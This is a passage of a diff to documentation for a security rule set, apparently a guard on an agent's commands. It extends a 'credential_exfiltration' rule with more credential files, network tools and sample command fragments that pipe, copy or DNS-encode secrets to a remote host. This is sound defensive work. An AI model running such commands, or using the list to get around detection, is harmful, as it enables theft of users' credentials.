@@ -126,18 +126,20 @@ server's name and its own, and the kind of resource its arguments name. The rule
   ``force`` to one of them, or ``delete_branch`` of one;
 - ``credential_exfiltration``: a credential file (``~/.ssh/*`` but public keys,
   ``known_hosts`` and ``config``, ``.env`` but ``.env.example``, ``~/.aws``, ``~/.netrc``,
-  ``~/.kube/config``, private keys, …) or the
-  environment (``env``, ``printenv``) sent to the network: ``curl -d @…`` / ``-F f=@…`` /
-  ``-T``, ``wget --post-file``, piped or redirected into ``nc``, ``curl``, ``ssh``, redirected to
-  bash's ``/dev/tcp/h/p`` or ``/dev/udp/h/p`` (also through a descriptor ``exec 3<>`` opened
-  on one: ``… >&3``),
+  ``~/.kube/config``, ``~/.git-credentials``, ``~/.npmrc``, ``~/.pypirc``,
+  ``~/.config/gh/hosts.yml``, ``~/.docker/config.json``, ``~/.config/gcloud/*``, private
+  keys, …) or the environment (``env``, ``printenv``) sent to the network: ``curl -d @…`` /
+  ``-F f=@…`` / ``-T``, ``wget --post-file``, piped (alone or by a group: ``(cat ~/.netrc;
+  sleep 1) | telnet h 23``) or redirected into ``nc``, ``ncat``, ``socat``, ``telnet``,
+  ``openssl s_client``, ``curl``, ``ssh``, redirected to bash's ``/dev/tcp/h/p`` or
+  ``/dev/udp/h/p`` (also through a descriptor ``exec 3<>`` opened on one: ``… >&3``),
   substituted into a ``curl`` (``-d "$(cat .env)"``), copied to a remote host by ``scp``,
-  ``rsync`` or a cloud copy (not what ``--exclude``, ``--exclude-from``, ``--filter``,
-  ``tar -X`` or ``zip -x`` leaves out), put by the script of ``sftp``, ``ftp``, ``lftp`` or
+  ``rsync`` or a cloud copy (not what ``--exclude``, ``--exclude-from``, ``--filter``, ``tar
+  -X`` or ``zip -x`` leaves out), put by the script of ``sftp``, ``ftp``, ``lftp`` or
   ``smbclient`` (``sftp h <<< 'put ~/.kube/config'``, a here-document, ``-b`` batch file
-  written in the line, ``-c``), looked up as a name (``dig $(… ~/.aws/credentials …).x.com``),
-  or by a one-liner whose socket, HTTP client or DNS lookup carries one or the whole
-  environment (``IO::Socket``, ``socket``, ``requests``, ``fetch``, ``%ENV``,
+  written in the line, ``-c``), looked up as a name (``dig $(… ~/.aws/credentials
+  …).x.com``), or by a one-liner whose socket, HTTP client or DNS lookup carries one or the
+  whole environment (``IO::Socket``, ``socket``, ``requests``, ``fetch``, ``%ENV``,
   ``dict(os.environ)``); likewise a credential a CLI prints (``gh auth token``, ``aws
   configure export-credentials``, ``gcloud auth print-access-token``, ``az account
   get-access-token``, ``kubectl config view --raw``, ``kubectl get secret -o yaml``), but
